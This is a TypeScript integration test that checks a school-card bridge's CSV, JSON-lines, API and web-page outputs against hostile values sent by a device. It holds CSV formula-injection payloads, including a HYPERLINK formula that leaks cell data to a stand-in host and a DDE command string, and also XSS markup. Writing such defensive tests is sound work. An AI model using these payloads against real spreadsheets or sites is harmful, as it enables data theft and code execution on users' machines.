import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launchChromium } from '@educard/scripts/support';
import { generateKeyPair, signBatch, topics } from '@educard/terminal-sdk';
import { chainRecords } from '@educard/terminal-sdk/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PASSWORD } from '../support/accounts.js';
import { signInToBridge } from '../support/pages.js';
import { IdentityRig, SET_UP_MS } from './identity-harness.js';

/**
 * Hostile field values from an enrolled device (or a stolen device key) reaching the bridge's
 * exports (issue 14, defect 5): a batch signed with the device's own key, over the broker, to
 * `educard-bridge serve` in file mode; then the CSV and JSON lines it writes, the events API, and
 * the operations page in a real Chromium (the one page that shows text a device chose).
 */

let dir: string;
let rig: IdentityRig;
const outbox = () => join(dir, 'outbox');

const FORMULAS = [
  '=HYPERLINK("http://x.invalid/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'hostile-fields-'));
  rig = await IdentityRig.start(dir, {
    central: {
      mode: 'file',
      files: { inboxDir: join(dir, 'inbox'), outboxDir: outbox(), exportIntervalMs: 100 },
    },
  });
}, SET_UP_MS);
afterAll(async () => {
  await rig?.stop();
  await rm(dir, { recursive: true, force: true });
});

/** Enrolls `device` with a key of its own and publishes one signed batch of `data` records of `type`. */
async function publishAs(device: string, type: string, values: Record<string, unknown>[]) {
  const key = generateKeyPair();
  const client = await rig.deviceOnBroker(device, 'school-1', key);
  const at = new Date().toISOString();
  const records = chainRecords(
    device,
    values.map((data) => ({ type, at, data })),
  );
  await client.publishAsync(
    topics.events('school-1', device),
    JSON.stringify(signBatch(device, 'school-1', records, key)),
    { qos: 1 },
  );
  await client.endAsync();
}

describe('hostile field values in every export', () => {
  it('reach the CSV as text, never as a formula, and the JSON lines and API as sent', async () => {
    await publishAs(
      'gate-h1',
      'custom.note',
      FORMULAS.map((formula) => ({ personId: formula, note: formula })),
    );

    const csvFiles = async () => (await readdir(outbox()).catch(() => [])).filter((n) => n.endsWith('.csv'));
    await expect.poll(csvFiles, { timeout: 20_000 }).toHaveLength(1);
    const [name] = await csvFiles();
    const rows = parse(await readFile(join(outbox(), name as string), 'utf8'), { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows).toHaveLength(FORMULAS.length);
    expect(rows.map((row) => row.person_id)).toEqual(FORMULAS.map((formula) => `'${formula}`));
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const jsonl = (await readFile(join(outbox(), (name as string).replace('.csv', '.jsonl')), 'utf8'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { record: { data: { note: string } } });
    expect(jsonl.map((line) => line.record.data.note)).toEqual(FORMULAS);
    const { body } = await rig.api('GET', '/v1/events?device=gate-h1');
    expect((body.events as { record: { data: { note: string } } }[]).map((e) => e.record.data.note)).toEqual(
      FORMULAS,
    );
  });

  it('reach the operations page as text, never as markup', { timeout: 90_000 }, async () => {
    const MARKUP = ['<img src=x onerror="window.__pwned=1">', '<script>window.__pwned=2</script>'];
    // Malformed for the contract (stored, not interpreted), yet summarised for the page's live events.
    await publishAs(
      'gate-h2',
      'gate.decision',
      MARKUP.map((markup) => ({ cardId: 'c-1', decision: markup, reason: markup })),
    );
    await expect
      .poll(async () => (await rig.api('GET', '/v1/events?device=gate-h2')).body.events, { timeout: 20_000 })
      .toHaveLength(MARKUP.length);
    const made = await rig.api('POST', '/v1/accounts', {
      username: 'dora',
      displayName: 'Dora',
      role: 'district-admin',
      password: PASSWORD,
    });
    expect(made.status).toBe(201);
    const browser = await launchChromium();
    try {
      const page = await signInToBridge(browser, rig.http, 'dora', {
        password: PASSWORD,
        timezoneId: 'UTC',
        timeoutMs: 15_000,
      });
      await page.locator('.bar .tab', { hasText: 'Operations' }).click();
      const shown = page.locator('.stream li', { hasText: 'gate-h2' });
      await expect.poll(() => shown.count(), { timeout: 15_000 }).toBe(MARKUP.length);
      const texts = await shown.allTextContents();
      for (const markup of MARKUP) expect(texts.some((text) => text.includes(markup))).toBe(true);
      expect(await page.locator('.stream img, .stream script').count()).toBe(0);
      expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    } finally {
      await browser.close();
    }
  });
});
